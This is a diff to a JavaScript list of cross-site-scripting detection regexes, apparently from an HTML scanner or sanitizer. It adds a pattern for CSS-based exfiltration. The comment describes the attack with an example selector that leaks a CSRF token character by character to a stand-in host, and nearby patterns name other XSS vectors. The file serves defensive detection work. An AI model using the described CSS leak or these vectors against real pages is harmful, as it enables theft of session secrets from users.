@@ -187,6 +187,10 @@ const XSS = [
   // (thirty-fifth round: a button's `formaction` naming the site's own page, a relative path or a template's placeholder, `formaction="{{ save }}"`
   // in an OpenCart template, is a form's own target; another origin's, a scheme's, an entity's or an unquoted one is still read)
   /<[a-z][a-z0-9:-]{0,20}\b[^<>]{0,400}?\b(?:formaction(?!\s*=\s*(['"])(?:\{\{\s{0,4}[\w.]{1,60}\s{0,4}\}\}|\/(?![/\\])[^'"<>\s:\\]{0,200}|[\w.-]{1,60}(?:[/?#][^'"<>\s:\\]{0,200})?)\1)|srcdoc|datasrc|datafld|dataformatas)\s*=|<\?xml-stylesheet\b[^>]{0,200}?href\s*=\s*['"]?\s*(?:javascript|data):|<\?import\b(?=[^<>]{0,200}?\b(?:namespace|implementation)\s*=)/,
+  // (forty-second round, from its third review) a style sheet reading a field's value out a character at a time: a selector on an input's
+  // value (`input[name=csrf][value^=s3]`) whose rule loads a URL from another host (`{background:url(//host/leak?p=s3)}`) sends the
+  // page's secret away with no script at all
+  /<style\b[^>]{0,100}>[^<]{0,20000}?\[\s{0,4}value\s{0,4}[\^$*|~]?=[^\]\n]{0,200}\][^{}<]{0,200}\{[^{}<]{0,400}?url\s{0,4}\(\s{0,4}['"]?\s{0,4}(?:https?:)?\/\//,
   /\bstyle\s*=\s*['"`]?[^'"`>]{0,200}?(?:expression\s*\(|javascript\s*:|-moz-binding|\bbinding\s*:\s*url\s*\(|behavior\s*:|url\s*\(\s*['"]?\s*(?:javascript|vbscript):)|<style\b[^>]{0,100}>[^<]{0,20000}?(?:expression\s*\(|javascript\s*:|-moz-binding|behavior\s*:|@import(?!\s{0,4}(?:url\s{0,4}\(\s{0,4})?['"]?(?:\/(?!\/)|[@~.\w-])[\w@~.\/-]{0,200}\.(?:s?css|less|sass|styl)['"]?\s{0,4}\)?\s{0,4}[;\n])|alert\s*\()/,
   // (review: after `[`, `#` or `/`, not the no-op link, `/category/javascript:void(0)` a crawler built from `href="javascript:void(0)"`,
   // `#javascript:;`, nor a hashtag then prose, `#javascript: (part 1)`)
